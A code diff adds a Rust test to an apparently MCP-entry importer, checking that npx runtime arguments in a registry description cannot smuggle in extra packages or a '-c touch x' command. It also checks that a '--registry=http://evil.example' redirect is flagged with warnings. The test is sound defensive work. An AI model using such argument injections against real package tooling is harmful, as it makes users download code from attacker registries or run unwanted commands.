@@ -7,7 +7,7 @@ use crate::stories;
 use crate::support::{Host, TestEnv};
 
 pub fn stories() -> Vec<Trial> {
-    stories!("exchange": pasted_and_run, found_and_imported, dry_runs_and_taken_names, exported_and_imported)
+    stories!("exchange": pasted_and_run, found_and_imported, a_description_names_one_package, dry_runs_and_taken_names, exported_and_imported)
 }
 
 fn pasted_and_run() {
@@ -130,5 +130,37 @@ fn exported_and_imported() {
         let host = Host::start(&other);
         host.must("mcp.import", json!({ "text": whole["text"] }));
         assert_eq!(stored(&other), entries, "{format}");
+    }
+}
+
+/// What a registry's description says to `npx` brings no other package, and what is not harmless is said.
+fn a_description_names_one_package() {
+    let env = TestEnv::new();
+    let host = Host::start(&env);
+    let words = [
+        "--registry",
+        "http://evil.example",
+        "-c",
+        "touch x",
+        "other-package",
+        "--package=other",
+    ];
+    let words = words.map(|word| json!({ "type": "positional", "value": word }));
+    let text = json!({ "name": "io.github.me/good", "packages": [{ "registryType": "npm", "identifier": "good",
+        "version": "1.0.0", "runtimeArguments": words }] });
+    let parsed = host.must("mcp.parse", json!({ "text": text.to_string() }));
+    let draft = &parsed["drafts"][0];
+    assert_eq!(
+        draft["entry"]["args"],
+        json!(["-y", "--registry=http://evil.example", "good@1.0.0"])
+    );
+    let warnings = draft["warnings"].to_string();
+    for said in [
+        "`npx` is started with `--registry=http://evil.example`",
+        "`touch x` is left out",
+        "`other-package` is left out",
+        "`--package=other` is left out",
+    ] {
+        assert!(warnings.contains(said), "{said}: {warnings}");
     }
 }
